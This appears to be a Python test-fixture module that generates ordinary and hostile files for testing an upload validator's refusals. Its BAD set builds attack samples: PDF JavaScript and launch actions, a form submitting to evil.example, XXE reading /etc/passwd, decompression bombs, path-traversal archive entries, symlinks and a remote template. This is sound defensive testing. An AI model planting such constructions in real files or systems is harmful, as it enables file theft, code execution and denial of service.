"""A zoo of files, made by real tools when the test runs: what offices scan, phones take, and attackers send."""

import contextlib
import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator

import docx
import img2pdf
import openpyxl.chart
import pikepdf
import reportlab.pdfgen.canvas
import typst
from PIL import Image

WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
SHEET = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
LAYOUT = {"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<Document/>"}


def package(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def linked() -> bytes:
    """A package one of whose entries is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in WORD.items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_package() -> bytes:
    """A package whose entries say that they are encrypted."""
    raw = bytearray(package(WORD))
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := raw.find(mark, place + 1)) >= 0:
            raw[place + flag] |= 1
    return bytes(raw)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **saved: object) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saved)
    return out.getvalue()


def typeset() -> bytes:
    made = typst.compile(b"= Lease\n#lorem(300)", format="pdf", pdf_standards="a-2b")
    assert isinstance(made, bytes)
    return made


def script_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_by_name(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=made.make_stream(b"app.alert(1)")))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", action])))


def script_on_a_field(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x")
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.Widget, AA=pikepdf.Dictionary(K=action))
    made.pages[0].Annots = pikepdf.Array([note])


def launch(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ\x90")


def form_that_sends(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


def link_to_a_page(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.gov.cn/")
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])


def nested_bomb() -> bytes:
    """Objects packed in a stream that inflates to 256 MB of blanks."""
    packed = zlib.compressobj(9)
    body = b"".join(packed.compress(b" " * 2**24) for _ in range(16)) + packed.flush()
    made = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in (
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(body), body)),
    ):
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(bytes([1]) + places[n].to_bytes(4) + b"\0" for n in (1, 2, 3, 4)) + bytes([2, 0, 0, 0, 4, 0])
    start = len(made)
    index = b"<</Type/XRef/Size 6/W[1 4 1]/Index[1 5]/Root 1 0 R/Length %d>>" % len(rows)
    made += b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (index, rows, start)
    return bytes(made)


def photo(width: int = 800, height: int = 600, mode: str = "RGB", kind: str = "JPEG", **saved: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 60).convert(mode).save(out, kind, **saved)
    return out.getvalue()


def phone_photo() -> bytes:
    """Taken upright with a phone: turned by EXIF, with place and camera."""
    image = Image.new("RGB", (400, 300), "white")
    image.paste("red", (0, 0, 200, 300))
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees
    exif[0x0110] = "PlantedCamera"
    exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 5.0, 0.0), 3: "E", 4: (119.0, 21.0, 0.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"PlantedComment")
    return out.getvalue()


def large_photo() -> bytes:
    """As large as may be, and to be turned."""
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", (7200, 5400), "white").save(out, "JPEG", exif=exif)
    return out.getvalue()


def blank_picture(side: int) -> bytes:
    """A square of so many points: 20000 take 49 kB."""
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    return out.getvalue()


def text_bomb() -> bytes:
    """A small PNG with a comment that inflates to 200 MB."""
    plain = photo(8, 8, kind="PNG")
    data = b"zTXtComment\0\0" + zlib.compress(b"a" * 200 * 1024 * 1024, 9)
    chunk = struct.pack(">I", len(data) - 4) + data + struct.pack(">I", zlib.crc32(data))
    return plain[:33] + chunk + plain[33:]


def animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (50, 50), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><document>&x;</document>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY x "haha"><!ENTITY y "&x;&x;&x;&x;">]><sst>&y;</sst>'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATIONS}/attachedTemplate"'
    ' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
).encode()


def dynamic_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=pikepdf.Array([]))


@contextlib.contextmanager
def quiet() -> Iterator[None]:
    """zipfile warns of a name that comes twice; here it is meant."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        yield


def twice() -> bytes:
    """A package with two parts of one name: programs differ in which one they read."""
    out = io.BytesIO()
    with quiet(), zipfile.ZipFile(out, "w") as made:
        for content in (b"<document/>", b"<other/>"):
            made.writestr("word/document.xml", content)
        made.writestr("[Content_Types].xml", b"<Types/>")
    return out.getvalue()


def written() -> bytes:
    """A lease written with python-docx: headings, a table, a picture, a link to click on."""
    made = docx.Document()
    made.add_heading("房屋租赁合同", level=1)
    made.add_paragraph("出租人张婷，承租人灌河餐饮有限公司。")
    made.add_table(rows=2, cols=2).cell(0, 0).text = "面积 320 平方米"
    made.add_picture(io.BytesIO(photo(80, 60)))
    made.part.relate_to("https://www.gov.cn/", f"{OFFICE_RELATIONS}/hyperlink", is_external=True)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def table() -> bytes:
    """A list of staff with a chart, by openpyxl."""
    made = openpyxl.Workbook()
    sheet = made.active
    for row in (("姓名", "年龄"), ("张婷", 38), ("王磊", 51)):
        sheet.append(row)
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def drawn() -> bytes:
    """A plan drawn by reportlab, with bookmarks and a link."""
    out = io.BytesIO()
    page = reportlab.pdfgen.canvas.Canvas(out)
    page.bookmarkPage("plan")
    page.addOutlineEntry("plan", "plan")
    page.rect(100, 500, 300, 200)
    page.linkURL("https://www.gov.cn/", (100, 100, 200, 120))
    page.drawString(100, 100, "kitchen")
    page.save()
    return out.getvalue()


def scanned(pages: int = 3) -> bytes:
    """What an office scanner makes: a photo of paper a page, nothing else."""
    return img2pdf.convert([photo(1240, 1754, mode="L") for _ in range(pages)])


def form_to_fill() -> bytes:
    """An ordinary form to type into (AcroForm), as authorities publish them."""
    out = io.BytesIO()
    page = reportlab.pdfgen.canvas.Canvas(out)
    page.acroForm.textfield(name="name", x=100, y=700, value="Zhang")
    page.drawString(100, 750, "name")
    page.save()
    return out.getvalue()


def by_pillow() -> bytes:
    out = io.BytesIO()
    page = Image.effect_noise((600, 800), 60)
    page.save(out, "PDF", save_all=True, append_images=[page.rotate(180)])
    return out.getvalue()


def saved_once_more() -> bytes:
    """With a newer part behind the end, as programs save that only add."""
    first = drawn()
    start = first.rindex(b"startxref") + 9
    place = int(first[start:].split()[0])
    added = b"\nxref\n0 0\ntrailer\n" + first[first.rindex(b"trailer") + 7 : start - 9].replace(
        b"<<", b"<< /Prev %d " % place, 1
    )
    return first + added + b"startxref\n%d\n%%%%EOF\n" % (len(first) + 1)


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "typeset pdf": ("租房合同.pdf", typeset),
    "scan with link": ("scan.PDF", lambda: pdf(link_to_a_page)),
    "packed pdf": ("packed.pdf", lambda: pdf(pages=30, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "linear pdf": ("linear.pdf", lambda: pdf(pages=3, linearize=True)),
    "pdf behind a scanner's bytes": ("odd.pdf", lambda: b"\xef\xbb\xbf\r\n" + pdf()),
    "500 pages": ("long.pdf", lambda: pdf(pages=500)),
    "phone photo": ("IMG_0001.JPEG", phone_photo),
    "grey scan": ("grey.jpg", lambda: photo(mode="L")),
    "print colours": ("cmyk.jpg", lambda: photo(mode="CMYK")),
    "progressive": ("web.jpg", lambda: photo(progressive=True)),
    "transparent": ("seal.png", lambda: photo(mode="RGBA", kind="PNG")),
    "palette": ("plan.png", lambda: photo(mode="P", kind="PNG")),
    "one bit": ("fax.png", lambda: photo(mode="1", kind="PNG")),
    "deep grey": ("deep.png", lambda: photo(mode="I;16", kind="PNG")),
    "animated": ("moving.png", animated),
    "39 megapixels": ("big.jpg", large_photo),
    "drawn plan": ("平面图.pdf", drawn),
    "scanner": ("扫描 2026-03-02（1）.pdf", scanned),
    "form to fill": ("申请表.pdf", form_to_fill),
    "joined by Pillow": ("两页.pdf", by_pillow),
    "saved once more": ("增量.pdf", saved_once_more),
    "written document": ("租赁合同（最终版）.docx", written),
    "written table": ("从业人员名单.xlsx", table),
    "fine grey picture": ("deep.png", lambda: photo(200, 200, mode="I;16", kind="PNG")),
    "legal giant": ("地图.png", lambda: blank_picture(6300)),
    "name of 150 characters": ("新" * 150 + ".jpg", lambda: photo(50, 50)),
    "document": ("说明.docx", lambda: package(WORD)),
    "sheet": ("表.xlsx", lambda: package(SHEET)),
    "layout": ("证照.ofd", lambda: package(LAYOUT)),
}

# Name, content, a word that the refusal holds.
BAD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "script on opening": ("a.pdf", lambda: pdf(script_on_opening), "脚本"),
    "script by name": ("a.pdf", lambda: pdf(script_by_name), "脚本"),
    "script in packed objects": (
        "a.pdf",
        lambda: pdf(script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "脚本",
    ),
    "script on a field": ("a.pdf", lambda: pdf(script_on_a_field), "脚本"),
    "starts a program": ("a.pdf", lambda: pdf(launch), "启动别的程序"),
    "sends itself": ("a.pdf", lambda: pdf(form_that_sends), "往外发送"),
    "carries a program": ("a.pdf", lambda: pdf(attachment), "附件"),
    "password to open": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "加了密"),
    "password to print": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "加了密"),
    "501 pages": ("a.pdf", lambda: pdf(pages=501), "500 页"),
    "no page": ("a.pdf", lambda: pdf(pages=0), "没有页面"),
    "first half of a pdf": ("a.pdf", lambda: typeset()[: len(typeset()) // 2], "打不开"),
    "first half of a linear pdf": ("a.pdf", lambda: (b := pdf(pages=40, linearize=True))[: len(b) // 2], "打不开"),
    "only a header": ("a.pdf", lambda: b"%PDF-1.7\n", "打不开"),
    "page as pdf": ("a.pdf", lambda: b"<!doctype html><script>alert(1)</script>", "其实是网页"),
    "program as pdf": ("合同.pdf", lambda: b"MZ\x90\0" + random.Random(1).randbytes(4000), "其实是程序"),
    "picture as pdf": ("a.pdf", lambda: photo(), "其实是JPG"),
    "pdf as picture": ("a.jpg", lambda: pdf(), "其实是PDF"),
    "png as jpg": ("a.jpg", lambda: photo(kind="PNG"), "其实是PNG"),
    "svg": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG 图片里可能带有程序"),
    "page": ("a.html", lambda: b"<script>alert(1)</script>", "网页不能交"),
    "program": ("a.exe", lambda: b"MZ\x90\0", "不能交"),
    "two endings": ("a.pdf.exe", lambda: pdf(), "不能交"),
    "no ending": ("合同", lambda: pdf(), "不能交"),
    "archive": ("a.zip", lambda: package({"a.txt": b"a"}), "压缩包不能交"),
    "archive as document": ("a.docx", lambda: package({"a.txt": b"a"}), "不是正常的 .docx"),
    "document as sheet": ("a.xlsx", lambda: package(WORD), "不是正常的 .xlsx"),
    "macro": ("a.docx", lambda: package({**WORD, "word/VbaProject.bin": b"x"}), "宏"),
    "old macro": ("a.xlsx", lambda: package({**SHEET, "xl/macrosheets/sheet1.xml": b"x"}), "宏"),
    "document bomb": ("a.docx", lambda: package({**WORD, "word/media/a.bin": bytes(250 * 1024 * 1024)}), "展开后太大"),
    "dense document": ("a.docx", lambda: package({**WORD, "word/media/a.bin": bytes(20 * 1024 * 1024)}), "展开后太大"),
    "1001 parts": ("a.docx", lambda: package(WORD | {f"word/{n}": b"x" for n in range(1001)}), "部件太多"),
    "climbing out": ("a.docx", lambda: package({**WORD, "../../etc/cron.d/x": b"x"}), "指到文件外面"),
    "climbing out the other way": ("a.docx", lambda: package({**WORD, "..\\..\\x": b"x"}), "指到文件外面"),
    "from the root": ("a.docx", lambda: package({**WORD, "/etc/passwd": b"x"}), "指到文件外面"),
    "from another drive": ("a.docx", lambda: package({**WORD, "C:\\x": b"x"}), "指到文件外面"),
    "symbolic link": ("a.docx", linked, "快捷链接"),
    "locked package": ("a.docx", locked_package, "加了密"),
    "half a document": ("a.docx", lambda: package(WORD)[:60], "打不开"),
    "20000 points square": ("a.png", lambda: blank_picture(20000), "4000 万像素"),
    "41 megapixels": ("a.png", lambda: blank_picture(6401), "4000 万像素"),
    "comment bomb": ("a.png", text_bomb, "打不开"),
    "half a photo": ("a.jpg", lambda: photo()[:9000], "完整"),
    "half a picture": ("a.png", lambda: photo(kind="PNG")[:9000], "完整"),
    "only a head": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(100), "打不开"),
    "form with a program": ("表.pdf", lambda: pdf(dynamic_form), "XFA"),
    "pdf and archive in one": ("a.pdf", lambda: pdf() + package({"a.txt": b"a"}), "同时是两种文件"),
    "photo and archive in one": ("a.jpg", lambda: photo() + package({"a.txt": b"a"}), "同时是两种文件"),
    "page and pdf in one": ("a.pdf", lambda: b"<html><script>alert(1)</script>" + pdf(), "其实是网页"),
    "page as photo": ("a.jpg", lambda: b"<!doctype html><h1>x</h1>" * 50, "其实是网页"),
    "moving picture as png": ("a.png", lambda: photo(mode="P", kind="GIF"), "其实是GIF"),
    "old office file as document": (
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
        "加了密的 Office",
    ),
    "old word": ("合同.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(4000), "另存为 .docx"),
    "photo of an iphone": ("IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(400), "兼容性最佳"),
    "macro by ending": ("a.docm", lambda: package(WORD), "带宏的文件"),
    "external entity": ("a.docx", lambda: package({**WORD, "word/document.xml": XXE}), "到别处去取"),
    "entity in a sheet": ("a.xlsx", lambda: package({**SHEET, "xl/sharedStrings.xml": LAUGHS}), "到别处去取"),
    "entity in another script": (
        "a.xlsx",
        lambda: package({**SHEET, "xl/a.xml": XXE.decode().encode("utf-16")}),
        "到别处",
    ),
    "template from elsewhere": (
        "a.docx",
        lambda: package({**WORD, "word/_rels/settings.xml.rels": TEMPLATE}),
        "到别处去取",
    ),
    "archive in a document": (
        "a.docx",
        lambda: package({**WORD, "word/embeddings/a.zip": package(WORD)}),
        "夹着别的文件",
    ),
    "wrapped program": ("a.docx", lambda: package({**WORD, "word/embeddings/oleObject1.bin": b"MZ"}), "夹着别的文件"),
    "same name twice": ("a.docx", twice, "不是正常的"),
    "broken xml": ("a.docx", lambda: package({**WORD, "word/document.xml": b"<a"[:1]}), "打不开"),
    "empty": ("a.pdf", lambda: b"", "空的"),
    "31 MB": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(31 * 1024 * 1024), "30 MB"),
}
